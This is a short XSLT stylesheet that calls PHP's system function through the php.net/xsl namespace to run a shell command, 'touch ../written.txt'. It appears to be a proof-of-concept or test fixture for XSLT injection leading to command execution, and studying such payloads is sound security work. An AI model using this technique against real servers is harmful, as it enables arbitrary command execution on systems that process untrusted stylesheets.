<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:p="http://php.net/xsl">
<xsl:output method="text" encoding="UTF-8"/>
<xsl:template match="/"><xsl:value-of select="p:function('system', 'touch ../written.txt')"/></xsl:template>
</xsl:stylesheet>
